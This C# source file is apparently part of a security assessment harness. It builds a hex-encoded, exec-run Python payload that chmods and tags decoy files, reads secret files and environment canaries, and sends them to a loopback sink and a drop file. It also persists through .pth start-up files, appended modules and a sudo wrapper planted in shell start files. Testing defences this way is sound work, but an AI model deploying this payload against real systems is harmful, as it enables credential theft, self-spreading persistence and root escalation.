using System.Collections.Immutable;
using System.Text;
using System.Text.Json;

namespace Sandpiper.Assessment.Probes;

/// <summary>
/// What the code of a probe does, wherever it runs: adds one line to each decoy that it can write (a read-only mode is no obstacle to the
/// owner of a file), reads each that it can read and sends what it read to the sink, and leaves copies of itself where they would run
/// later. It creates no file but those copies, each of which knows what left it.
/// </summary>
/// <remarks>
/// It imports next to nothing, for it runs at every start of a Python: JSON of texts, numbers and lists
/// is Python, too, where no character takes two escapes.
/// It never says of itself how it fared: whether a line arrived is looked at from outside. Every path is one of the replica's.
/// </remarks>
internal static class Payload
{
    private const string Source = """
        import os, _socket
        if "\\uD" in CONF:
            import json
            C = json.loads(CONF)
        else:
            C = eval(CONF)
        TAG = "%s %s %d %s" % (C["nonce"], TRIGGER, os.getuid(), BY or "-")
        def line(trigger):
            by = "%s:%d%s" % (TRIGGER, os.getuid(), BY and "," + BY)
            return "import os;exec(bytes.fromhex('%s').decode(),{'TRIGGER':'%s','BY':'%s','CONF':%r,'CODE':'%s'})" % (
                CODE, trigger, by, CONF, CODE)
        def attempt(act, *arguments):
            try:
                return act(*arguments)
            except Exception:
                return None
        def loosen(path, mode):
            if os.path.exists(path) and not os.access(path, os.W_OK):
                os.chmod(path, mode)
        def tag(path):
            attempt(loosen, path, 0o644)
            f = os.open(path, os.O_WRONLY | os.O_APPEND)
            os.write(f, ("# " + TAG + "\n").encode())
            os.close(f)
        def read(path):
            with open(path) as f:
                return f.read(4096).strip()
        def create(path, text):
            if os.path.exists(path):
                return
            os.makedirs(os.path.dirname(path), exist_ok=True)
            attempt(loosen, os.path.dirname(path), 0o755)
            with open(path, "x") as f:
                f.write(text + "\n")
        def append(path, text):
            attempt(loosen, path, 0o644)
            with open(path) as f:
                if "fromhex" in f.read():
                    return
            with open(path, "a") as f:
                f.write("\n" + text + "\n")
        def tell(words):
            s = _socket.socket()
            s.settimeout(5)
            s.connect(("127.0.0.1", C["port"]))
            s.sendall(("%s %s\n" % (TAG, words)).encode())
            s.close()
        for path in C["write"]:
            attempt(tag, path)
        found = [attempt(read, path) for path in C["read"]] + [os.environ.get(n) for n in C["env"]]
        found = [w for w in found if w]
        def drop():
            f = os.open(C["drop"], os.O_WRONLY | os.O_APPEND)
            os.write(f, ("%s %s\n" % (TAG, " ".join(found))).encode())
            os.close(f)
        attempt(tell, " ".join(found))
        attempt(drop)
        for trigger, path in C["pth"]:
            attempt(create, path, line(trigger))
        for trigger, path in C["code"]:
            attempt(append, path, line(trigger))
        for trigger, path in C["shell"]:
            attempt(append, path, "sudo() { command sudo /usr/bin/python3 -I -S -c \"%s\"; command sudo \"$@\"; }"
                % line(trigger).replace("\\", "\\\\").replace('"', '\\"'))
        """;

    /// <summary>One line of Python that begins with <c>import</c>: the whole payload.</summary>
    /// <param name="kind">How it comes to run; tags carry its name.</param>
    public static string Line(Kind kind, Aim aim)
    {
        string source = Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Source));
        string literal = Quoted(aim.ToJson());
        return $"import os;exec(bytes.fromhex('{source}').decode(),{{'TRIGGER':'{kind.Id()}','BY':'','CONF':{literal},'CODE':'{source}'}})";
    }

    // As Python writes one of ASCII without a quote in it; JSON's own encoder escapes those.
    private static string Quoted(string json) => $"'{json.Replace("\\", "\\\\", StringComparison.Ordinal)}'";
}

/// <summary>Where a payload aims.</summary>
/// <param name="Nonce">The trial's own, by which its lines are known.</param>
/// <param name="Port">Of the sink, on loopback.</param>
internal sealed record Aim(string Nonce, int Port)
{
    /// <summary>Decoys.</summary>
    public required ImmutableArray<Decoy> Decoys { get; init; }

    /// <summary>Variables of the environment that hold canaries.</summary>
    public ImmutableArray<string> Variables { get; init; } = [];

    /// <summary>A file that everybody may add to: a way out where there is no network.</summary>
    public required string Drop { get; init; }

    /// <summary>Start-up files to make, each with its trigger.</summary>
    public ImmutableArray<(string Trigger, string Path)> StartUpFiles { get; init; } = [];

    /// <summary>Modules to add to.</summary>
    public ImmutableArray<(string Trigger, string Path)> Modules { get; init; } = [];

    /// <summary>Start files of a shell to add to.</summary>
    public ImmutableArray<(string Trigger, string Path)> ShellFiles { get; init; } = [];

    /// <summary>Sent along into every package: what the payload needs to know.</summary>
    public string ToJson()
    {
        using var bytes = new MemoryStream();
        using (var json = new Utf8JsonWriter(bytes))
        {
            json.WriteStartObject();
            json.WriteString("nonce", Nonce);
            json.WriteNumber("port", Port);
            json.WriteString("drop", Drop);
            Write("write", Decoys.Where(d => !d.IsSecret).Select(d => d.Path));
            Write("read", Decoys.Where(d => d.IsSecret).Select(d => d.Path));
            Write("env", Variables);
            WritePairs("pth", StartUpFiles);
            WritePairs("code", Modules);
            WritePairs("shell", ShellFiles);
            json.WriteEndObject();

            void Write(string name, IEnumerable<string> values)
            {
                json.WriteStartArray(name);
                foreach (string value in values) json.WriteStringValue(value);
                json.WriteEndArray();
            }

            void WritePairs(string name, ImmutableArray<(string Trigger, string Path)> pairs)
            {
                json.WriteStartArray(name);
                foreach (var (trigger, path) in pairs)
                {
                    json.WriteStartArray();
                    json.WriteStringValue(trigger);
                    json.WriteStringValue(path);
                    json.WriteEndArray();
                }
                json.WriteEndArray();
            }
        }
        return Encoding.UTF8.GetString(bytes.ToArray());
    }
}
